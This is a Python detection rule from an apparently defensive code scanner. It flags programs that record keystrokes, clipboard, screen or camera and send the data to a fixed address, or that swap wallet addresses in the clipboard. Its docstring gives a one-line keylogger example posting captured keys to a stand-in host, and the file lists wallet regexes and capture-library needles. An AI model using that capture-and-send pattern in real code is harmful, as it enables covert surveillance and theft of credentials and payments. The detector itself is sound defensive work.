"""What it sees
    Keystrokes, clipboard, screen or camera being captured in a file that also sends to a constant address, and
    clipboards whose wallet addresses are replaced.

Why it matters
    Recording a person is never a library's side effect. The clipboard form steals payments: the address that the
    victim pastes is not the one that was copied.

Example
    with keyboard.Listener(on_press=note): requests.post("https://collect.example.test/", data=log)

What to do
    Do not run it. Check addresses by eye before every payment until the machine is clean.

False alarms
    Automation and remote-support tools capture screens for their user; without a constant address they are context.

References
    ATT&CK T1056.001 (Keylogging), T1115 (Clipboard Data), T1113 (Screen Capture), T1565.002.
"""

import re
from collections.abc import Iterator

from lazaretto.detect.pycode import Place, sendings
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.py_vocabulary import SOURCES
from lazaretto.parse.python import PythonModule

_RECORDS = N_("records {what}, and sends to a constant address")
_CONTEXT = N_("records {what}")
_REPLACES = N_("replaces wallet addresses in the clipboard")

_KINDS = {"clip": "the clipboard", "screen": "the screen", "keys": "keystrokes", "camera": "the camera"}
_WALLET = re.compile(
    r"\[13\]\[a-km-z|\[13\]\)?\[a-|bc1[\[|)]|0x\[a-fA-F0-9\]\{40\}|0x\[0-9a-fA-F\]\{40\}|T\[A-Za-z1-9\]\{33\}|\[LM3\]"
    r"|^(?:bc1[a-z0-9]{25,62}|[13][a-km-zA-HJ-NP-Z1-9]{25,34}|0x[0-9a-fA-F]{40}|T[1-9A-HJ-NP-Za-km-z]{33})$"
)


def check(view: PythonModule) -> Iterator[Match]:
    """Yield one finding for each thing that is recorded."""
    captured: dict[str, tuple[int, str]] = {}
    for call in view.facts.calls:
        kind = SOURCES.get(call.name, "")
        if not kind and call.attr == "clipboard_get":
            kind = "clip"
        if kind in _KINDS:
            captured.setdefault(kind, (call.line, call.scope))
    if not captured:
        return
    copies = any(
        call.name in {"pyperclip.copy", "clipboard.copy"}
        or call.attr == "clipboard_append"
        or call.name.endswith("SetClipboardText")
        or call.name.endswith("SetClipboardData")
        for call in view.facts.calls
    )
    if "clip" in captured and copies and any(_WALLET.search(text) for text, _ in view.facts.strings):
        line, scope = captured["clip"]
        yield Match(_REPLACES, line, excerpt=view.quote(line), phase=view.phase(scope), confidence=Confidence.HIGH)
    far = [s for s in sendings(view) if s.place > Place.LOCAL]
    what = ", ".join(_KINDS[kind] for kind in _KINDS if kind in captured)
    line, scope = min(captured.values())
    together = any(s.call.scope in {where for _, where in captured.values()} for s in far)
    strong = (
        far
        and ("keys" in captured or len(captured) > 1 or (together and any(s.place >= Place.SHARED for s in far)))
        and not view.is_test
    )
    yield Match(
        _RECORDS if far else _CONTEXT,
        line,
        params={"what": what},
        excerpt=view.quote(line),
        phase=view.phase(scope),
        severity=Severity.HIGH
        if strong and any(s.place >= Place.SHARED for s in far)
        else Severity.MEDIUM
        if strong
        else Severity.LOW,
        confidence=Confidence.MEDIUM,
    )


RULE = Rule(
    id="py/watches-the-user",
    title=N_("Records what the user does"),
    view=PythonModule,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    phase=Phase.RUN,
    role=Role.COLLECT,
    check=check,
    doc=__doc__ or "",
    techniques=("T1056.001", "T1115", "T1113"),
    needles=(
        b"pynput",
        b"keyboard.",
        b"pyperclip",
        b"ImageGrab",
        b"screenshot(",
        b"VideoCapture",
        b"mss.",
        b"win32clipboard",
        b"clipboard",
    ),
)
